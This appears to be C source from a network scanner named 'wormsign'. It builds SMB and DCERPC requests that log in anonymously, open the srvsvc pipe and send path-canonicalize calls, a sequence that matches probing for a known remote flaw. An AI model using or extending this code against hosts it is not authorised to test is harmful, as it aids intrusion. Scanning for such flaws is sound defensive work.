/* The request of each step. What is random comes from the conversation's own number, so that a
 * request is the same however often it is built. */
#include <string.h>

#include "base/address.h"
#include "base/hash.h"
#include "scan/smb_talk.h"
#include "wire/netbios_session.h"
#include "wire/ntlmssp.h"
#include "wire/smb2.h"
#include "wire/smb_requests.h"
#include "wire/dcerpc_call.h"
#include "wire/spnego.h"
#include "wire/srvsvc.h"

enum {
    PDU_SIZE = 512,
    BIND_ANSWER_MOST = 0x800, /* bytes that a read may give */
    CALL_ANSWER_MOST = 0x1001,
    SMB2_LOGIN_MESSAGE = 1,
    SHARE_SIZE = ADDRESS_TEXT_SIZE + 16
};

#define US "wormsign"

const char *const smb_pipes[SMB_TALK_PIPES] = {"\\browser", "\\srvsvc", "\\wkssvc"};

static struct smb_ids ids_of(const struct smb_talk *t)
{
    return (struct smb_ids){.extended_security = t->step == SMB_STEP_NEGOTIATE || t->extended,
                            .tree = t->tree,
                            .user = t->user,
                            .multiplex = t->multiplex,
                            .process = (uint16_t)t->random};
}

static void build_name(const struct smb_talk *t, struct writer *w)
{
    struct netbios_name calling = netbios_name_of("WORMSIGN", NETBIOS_WORKSTATION, false);
    netbios_session_build(w, &t->called_names[t->called], &calling);
}

static void build_offer(const struct smb_talk *t, struct writer *w)
{
    uint8_t token[SMB_TALK_BLOB_MAX];
    struct writer message = writer_over(token, sizeof token);
    ntlmssp_negotiate_build(&message, NTLMSSP_FLAGS | NTLMSSP_EXTENDED | NTLMSSP_VERSION);
    if (t->spnego)
        spnego_first_build(w, reader_over(token, message.used));
    else
        write_bytes(w, token, message.used);
}

static void build_blob_login(const struct smb_talk *t, const struct smb_ids *ids,
                             struct reader blob, struct writer *w)
{
    const struct smb_login login = {.session_key = t->session_key, .os = US, .lanman = US};
    smb_session_setup_blob_build(w, ids, &login, blob);
}

static void build_offer_login(const struct smb_talk *t, const struct smb_ids *ids, struct writer *w)
{
    uint8_t bytes[SMB_TALK_BLOB_MAX];
    struct writer blob = writer_over(bytes, sizeof bytes);
    build_offer(t, &blob);
    if (t->step == SMB_STEP_SMB2_LOGIN)
        smb2_setup_build(w, SMB2_LOGIN_MESSAGE, 0, reader_over(bytes, blob.used));
    else
        build_blob_login(t, ids, reader_over(bytes, blob.used), w);
}

static void build_tree(const struct smb_talk *t, const struct smb_ids *ids, struct writer *w)
{
    char address[ADDRESS_TEXT_SIZE], share[SHARE_SIZE];
    struct text text = text_over(share, sizeof share);
    text_add(&text, "\\\\%s\\IPC$", address_text(address_of_v4(t->host), address));
    smb_tree_connect_build(w, ids, share);
}

static void build_pipe(const struct smb_talk *t, const struct smb_ids *ids, struct writer *w)
{
    const struct smb_create create = {
        .name = smb_pipes[t->pipe], .access = SMB_PIPE_ACCESS, .disposition = SMB_CREATE_OPEN};
    smb_create_build(w, ids, &create);
}

static void build_write(const struct smb_talk *t, const struct smb_ids *ids, struct writer *w)
{
    uint8_t bytes[PDU_SIZE], stub_bytes[PDU_SIZE];
    struct writer pdu = writer_over(bytes, sizeof bytes);
    struct writer stub = writer_over(stub_bytes, sizeof stub_bytes);
    if (t->step == SMB_STEP_BIND_WRITE) {
        dcerpc_bind_build(&pdu, SMB_TALK_BIND, &srvsvc_interface);
    } else {
        struct canonicalize_request q = {.server = "a",
                                         .prefix = "\\",
                                         .referent = 1,
                                         .room = CANONICALIZE_ROOM,
                                         .type = 1,
                                         .flags = 1};
        struct text path = text_over(q.path, sizeof q.path);
        text_add(&path, "%s", canonicalize_paths[t->call]);
        canonicalize_request_build(&stub, &q);
        dcerpc_request_build(&pdu, SMB_TALK_FIRST_CALL + t->call, SRVSVC_CANONICALIZE,
                             reader_over(stub_bytes, stub.used));
    }
    w->failed = w->failed || stub.failed || pdu.failed;
    smb_write_build(w, ids, t->file, reader_over(bytes, pdu.used));
}

static void build_smb2_negotiate(const struct smb_talk *t, struct writer *w)
{
    uint8_t guid[SMB2_GUID_SIZE];
    uint64_t halves[] = {t->random, hash_pair(t->random, 1)};
    memcpy(guid, halves, sizeof guid);
    smb2_negotiate_build(w, guid);
}

void smb_build(const struct smb_talk *t, struct writer *w)
{
    struct smb_ids ids = ids_of(t);
    switch (t->step) {
    case SMB_STEP_NAME:
        build_name(t, w);
        return;
    case SMB_STEP_NEGOTIATE:
        smb_negotiate_build(w, &ids);
        return;
    case SMB_STEP_LOGIN:
        smb_build_login(t, &ids, w);
        return;
    case SMB_STEP_LOGIN_OFFER:
    case SMB_STEP_SMB2_LOGIN:
        build_offer_login(t, &ids, w);
        return;
    case SMB_STEP_LOGIN_PROOF:
        build_blob_login(t, &ids, reader_over(t->blob, t->blob_size), w);
        return;
    case SMB_STEP_TREE:
        build_tree(t, &ids, w);
        return;
    case SMB_STEP_PIPE:
        build_pipe(t, &ids, w);
        return;
    case SMB_STEP_BIND_WRITE:
    case SMB_STEP_CALL_WRITE:
        build_write(t, &ids, w);
        return;
    case SMB_STEP_BIND_READ:
        smb_read_build(w, &ids, t->file, BIND_ANSWER_MOST);
        return;
    case SMB_STEP_CALL_READ:
        smb_read_build(w, &ids, t->file, CALL_ANSWER_MOST);
        return;
    case SMB_STEP_TREE_OFF:
        smb_tree_disconnect_build(w, &ids);
        return;
    case SMB_STEP_LOGOFF:
        smb_logoff_build(w, &ids);
        return;
    case SMB_STEP_SMB2_NEGOTIATE:
        build_smb2_negotiate(t, w);
        return;
    case SMB_STEPS:
        return;
    }
}
